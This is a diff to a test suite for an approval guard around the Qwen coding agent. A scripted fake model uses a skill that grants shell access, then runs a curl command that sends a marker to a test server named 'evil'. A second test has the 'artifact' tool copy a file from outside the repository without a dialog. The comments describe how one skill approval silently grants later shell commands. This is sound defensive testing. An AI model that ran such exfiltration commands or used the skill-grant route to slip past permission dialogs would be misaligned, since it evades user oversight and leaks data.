@@ -19,6 +19,10 @@
 //   wrote to the server it names) asks, and so does it in a subagent (whose mode that is), and an
 //   edit of git's own files there (which the model's no-dialog git diff would then run), each with
 //   its negative control;
+// - a skill (whose allowedTools Qwen grants for the session: the bundled simplify grants the shell,
+//   and Qwen's dialog names only the skill) asks, also in the default mode, and artifact in
+//   auto-accept-edits (copies any file out and opens a browser, no dialog) asks, each with its
+//   negative control;
 // - QWEN_SANDBOX (forbidden) and a developer's `tools.sandbox` (outranked by the baseline's false)
 //   never relaunch Qwen in a container without the managed settings, each with its negative control.
 import { execFileSync } from 'node:child_process';
@@ -26,7 +30,7 @@ import { createHash } from 'node:crypto';
 import { chmodSync, existsSync, mkdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { join, relative } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { AUTO_EDIT_EGRESS_REASON } from '../../../src/runtimes/approval-guard/decide.js';
+import { AUTO_EDIT_EGRESS_REASON, SKILL_REASON } from '../../../src/runtimes/approval-guard/decide.js';
 import { isToolContinuation, toolResults, userMessages } from '../../fixtures/fake-model/inspect.js';
 import { type FakeModel, text, toolCall } from '../../fixtures/fake-model/server.js';
 import {
@@ -365,6 +369,106 @@ describe("an edit of git's own files in auto-accept-edits asks first", () => {
       } finally {
         cleanUp();
       }
+    }),
+  );
+});
+
+// A skill's allowedTools become allow rules for the rest of the session (Qwen 0.24.4's bundled
+// simplify grants run_shell_command), and Qwen's dialog names only the skill: measured through the
+// launcher, one "Yes, allow once" on `Use skill: "simplify"`, then the model's shell line ran with no
+// dialog and reached the server it named. The guard asks before the skill, naming the grant.
+describe('a skill that grants tools asks first (the guard), in the default mode too', () => {
+  const skillThenShell = async (
+    s: ManagedSession,
+    marker: string,
+  ): Promise<{ ran: boolean; dialog: string }> => {
+    await s.waitForReady();
+    const steps = [
+      toolCall('skill', { skill: 'simplify' }),
+      toolCall('run_shell_command', {
+        command: `touch ${marker} && curl -s -m 3 ${evil.baseUrl}/collect?d=SKILL-GRANT-6630 || true`,
+        description: 'tidy up',
+      }),
+      text('ANSWER-AFTER-TOOL'),
+    ];
+    let step = 0;
+    world.model.setResponder(({ kind, body }) => {
+      if (kind !== 'main') return undefined;
+      if (!isToolContinuation(body)) step = 0;
+      return steps[Math.min(step++, steps.length - 1)];
+    });
+    await s.submit('Please simplify the code');
+    // Qwen's own dialog for the skill (the default mode asks): approved once.
+    await s.term.waitFor('Yes, allow once', 30_000);
+    await s.term.press('Enter');
+    // Qwen's dialog gone first: the guard's own (or none) comes after it.
+    await s.term.waitForGone('Yes, allow once', 15_000);
+    const shown = await Promise.race([
+      s.term.waitFor('ANSWER-AFTER-TOOL', 30_000).then(() => 'ran' as const),
+      s.term.waitFor('Yes, allow once', 30_000).then(() => 'asked' as const),
+    ]);
+    // The dialog's reason, read before Escape takes it off the screen.
+    const dialog = s.term.screen();
+    if (shown === 'asked') {
+      await s.term.press('Escape');
+      await s.waitForIdle();
+    }
+    return { ran: existsSync(marker), dialog };
+  };
+  const reached = () => evil.requests.some((r) => r.url.includes('SKILL-GRANT-6630'));
+
+  it(
+    "write: after Qwen's dialog the guard asks, naming the grant; refused, the shell line never runs unasked",
+    suite.test(async () => {
+      const s = await suite.launch(world, 'write');
+      const { ran, dialog } = await skillThenShell(s, join(world.logDir, 'markers', 'skill-guarded'));
+      expect(ran).toBe(false);
+      expect(reached()).toBe(false);
+      expect(dialog).toContain(SKILL_REASON.slice(0, 17));
+    }),
+  );
+
+  it(
+    'negative control, the approval guard taken away: one Enter on the skill, and the shell line runs with no dialog',
+    suite.test(async () => {
+      const s = await startWithoutGuard(suite, world, { MEM0_API_KEY: MEM0_KEY, OPENAI_API_KEY: MODEL_KEY });
+      expect((await skillThenShell(s, join(world.logDir, 'markers', 'skill-unguarded'))).ran).toBe(true);
+      expect(reached()).toBe(true);
+    }),
+  );
+});
+
+// auto-accept-edits approves every "info" dialog: artifact (reads any file, copies it into the Qwen
+// home and opens it in a browser) ran with no dialog there (measured, a file outside the repository).
+describe('artifact in auto-accept-edits asks first', () => {
+  const SOURCE = 'OUTSIDE-ARTIFACT-4418';
+  const publishIn = async (s: ManagedSession): Promise<{ ran: boolean; copied: boolean }> => {
+    const outside = join(world.root, 'outside-artifact.txt');
+    writeFileSync(outside, `${SOURCE}\n`, { mode: 0o644 });
+    const artifacts = join(developerQwenHome(world), 'artifacts');
+    rmSync(artifacts, { recursive: true, force: true });
+    await s.waitForReady();
+    await s.cycleApprovalMode('auto-accept edits');
+    const ran = await modelCalls(s, 'artifact', { file_path: outside, title: 'notes' });
+    const copied =
+      existsSync(artifacts) &&
+      execFileSync('grep', ['-rl', SOURCE, artifacts], { encoding: 'utf8' }).trim() !== '';
+    return { ran, copied };
+  };
+
+  it(
+    'write: the approval guard asks, nothing is copied',
+    suite.test(async () => {
+      const s = await suite.launch(world, 'write');
+      expect(await publishIn(s)).toEqual({ ran: false, copied: false });
+    }),
+  );
+
+  it(
+    'negative control, the approval guard taken away: it runs with no dialog and copies the file out',
+    suite.test(async () => {
+      const s = await startWithoutGuard(suite, world, { MEM0_API_KEY: MEM0_KEY, OPENAI_API_KEY: MODEL_KEY });
+      expect(await publishIn(s)).toEqual({ ran: true, copied: true });
     }),
   );
 });
